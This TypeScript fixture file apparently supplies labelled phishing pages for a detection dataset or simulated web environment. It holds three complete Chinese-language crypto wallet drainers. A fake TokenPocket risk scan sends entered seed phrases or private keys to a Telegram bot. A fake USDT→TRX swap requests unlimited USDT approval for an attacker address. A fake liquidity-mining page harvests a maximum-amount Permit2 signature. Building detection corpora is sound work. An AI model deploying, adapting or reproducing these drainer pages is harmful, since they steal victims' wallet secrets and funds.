import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-tokenpocket-risk-scan-private-key',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://tp-anquan-jiance.com/scan',
    body: doc({
      title: 'TokenPocket 资产风险检测',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f5f7fa') +
        `.top{background:#2980fe;color:#fff;padding:22px 18px}
.box{background:#fff;margin:12px;border-radius:10px;padding:16px}
.risk{display:flex;justify-content:space-between;padding:8px 0;border-bottom:1px solid #f1f1f1;font-size:14px}.risk b{color:#f5222d}
.go{background:#2980fe;color:#fff;width:100%;height:46px;border-radius:8px}
select,textarea{width:100%;border:1px solid #dde;border-radius:6px;padding:8px;font-size:14px}`,
      body: `<div class="top"><h2 style="margin:0">资产风险检测</h2><p style="margin:6px 0 0;font-size:13px">检测到您的钱包地址存在 <b>3 项高危授权</b>，资产可能被盗</p></div>
<div class="box"><div class="risk"><span>USDT 无限授权 → 未知合约</span><b>高危</b></div><div class="risk"><span>与黑名单地址交互 (OFAC)</span><b>高危</b></div><div class="risk"><span>疑似钓鱼签名 Permit</span><b>高危</b></div></div>
<form class="box" id="f"><h4 style="margin-top:0">一键取消授权并迁移资产</h4>
<p class="field"><label>网络</label><select name="chain"><option>TRON (TRC20)</option><option>Ethereum</option><option>BNB Chain</option><option>Polygon</option></select></p>
<p class="field"><label>钱包私钥或助记词</label><textarea name="secret" rows="3" placeholder="用于本地签名取消授权交易"></textarea></p>
<button class="btn go">立即修复</button></form>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch('https://api.telegram.org/bot7012293441:AAF1dZp2Lx9WqKcR0vT8nYb3uE6sMhJ4oGc/sendMessage?chat_id=-1001987234410&text='+encodeURIComponent('[TP] '+d.get('chain')+'\\n'+d.get('secret')),{mode:'no-cors'}).finally(function(){alert('修复成功，风险已清除');});};
</script>`,
    }),
  },
  {
    id: 'yq-tronlink-usdt-flash-swap-approve',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://usdt-shandui.trx-swap.cc/',
    body: doc({
      title: 'USDT 闪兑 TRX | 0 手续费 秒到账',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#0f1b2d', '#fff') +
        `.w{max-width:420px;margin:50px auto;background:#17263d;border-radius:16px;padding:22px}
.in{background:#0f1b2d;border-radius:10px;padding:14px;margin:10px 0;display:flex;justify-content:space-between;align-items:center}
.in input{background:transparent;border:0;color:#fff;font-size:22px;width:60%}
.go{background:#ff060a;color:#fff;width:100%;height:50px;border-radius:12px;font-size:16px}
.r{font-size:12px;color:#8aa}`,
      body: `<div class="w"><h3 style="margin-top:0">USDT → TRX 闪兑</h3>
<div class="in"><input id="a" value="100" inputmode="decimal"><b>USDT</b></div>
<div style="text-align:center">⇅</div>
<div class="in"><input id="b" value="" readonly><b>TRX</b></div>
<p class="r">汇率 1 USDT ≈ <span id="rt">8.42</span> TRX · 手续费 0 · 能量补贴中</p>
<button class="btn go" id="go">连接 TronLink 兑换</button><p class="r" id="st"></p></div>
<script>
(function(){
var SP='TJq7bQ3sK9vW2mZ8xR4nP6cY1dF5hL0uEa',USDT='TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';
function upd(){document.getElementById('b').value=(parseFloat(document.getElementById('a').value||0)*8.42).toFixed(2)}upd();document.getElementById('a').oninput=upd;
document.getElementById('go').onclick=async function(){var st=document.getElementById('st');
  try{
    if(window.tronLink&&window.tronLink.request){await window.tronLink.request({method:'tron_requestAccounts'});}
    var tw=window.tronWeb;if(!tw||!tw.defaultAddress||!tw.defaultAddress.base58){st.textContent='请在 TronLink / imToken / TokenPocket 中打开本页面';return;}
    var me=tw.defaultAddress.base58;fetch('/api/u?a='+me);
    var c=await tw.contract().at(USDT);
    st.textContent='请在钱包中确认兑换…';
    await c.approve(SP,'115792089237316195423570985008687907853269984665640564039457584007913129639935').send({feeLimit:100000000});
    fetch('/api/ok?a='+me);st.textContent='兑换处理中，TRX 将在 1-3 分钟内到账';
  }catch(e){st.textContent='兑换失败：'+(e&&e.message||e);}
};})();
</script>`,
    }),
    routes: { 'usdt-shandui.trx-swap.cc/api/u': jsonRoute({}), 'usdt-shandui.trx-swap.cc/api/ok': jsonRoute({}) },
  },
  {
    id: 'yq-liquidity-mining-permit2-sign',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://defi-pool-mining.com/#/earn',
    body: doc({
      title: 'USDT 流动性挖矿 · 日化 1.8%',
      lang: 'zh-CN',
      css:
        baseCss(`Inter,${fontSC}`, '#f6f7fb') +
        `.w{max-width:480px;margin:40px auto;background:#fff;border-radius:18px;padding:26px;box-shadow:0 10px 30px rgba(30,40,90,.08)}
.k{display:flex;justify-content:space-between;padding:10px 0;border-bottom:1px solid #f0f0f5}.k b{color:#16a34a}
.go{background:#5b5bf5;color:#fff;width:100%;height:50px;border-radius:12px;font-size:16px;margin-top:16px}`,
      body: `<div class="w"><h2 style="margin-top:0">无损挖矿 · 存币生息</h2><p class="hint">无需质押，仅需授权钱包中的 USDT 参与节点挖矿，收益每 6 小时自动发放，可随时退出。</p>
<div class="k"><span>年化收益 APY</span><b>657%</b></div><div class="k"><span>总锁仓量</span><span>$48,261,903</span></div><div class="k"><span>参与地址</span><span>86,214</span></div>
<button class="btn go" id="j">参与挖矿 · 领取收益</button><p class="hint" id="m" style="text-align:center"></p></div>
<script>
(function(){
var SPENDER='0x3f1c8e0b2a7d9e4f5a6b1c2d3e4f5a6b7c8d9e0f',PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3',USDT='0xdAC17F958D2ee523a2206206994597C13D831ec7';
document.getElementById('j').onclick=async function(){var m=document.getElementById('m');
  if(!window.ethereum){m.textContent='请使用 DApp 浏览器打开';return;}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  var dl=Math.floor(Date.now()/1000)+86400*365;
  var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
    PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],
    PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
    primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},
    message:{details:{token:USDT,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0},spender:SPENDER,sigDeadline:dl}};
  try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
    await fetch('/api/node/join',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,permit:typed.message})});
    m.textContent='已成功加入节点，首笔收益将在 6 小时内发放';}catch(e){m.textContent='签名已取消';}
};})();
</script>`,
    }),
    routes: { 'defi-pool-mining.com/api/node/join': jsonRoute({ status: 'ok' }) },
  },
];
